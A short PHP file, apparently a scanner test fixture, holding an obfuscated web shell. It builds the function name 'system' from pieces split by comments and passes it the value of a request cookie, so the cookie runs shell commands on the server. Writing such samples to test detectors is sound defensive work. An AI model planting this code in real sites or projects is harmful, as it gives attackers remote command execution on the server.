<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$a /* cfg */ = /* */ 'sy' /* 1 */ . /* 2 */ 'st'
    # x
    . // y
    'em';
$a  (  $_COOKIE  [  'z'  ]  )  ;
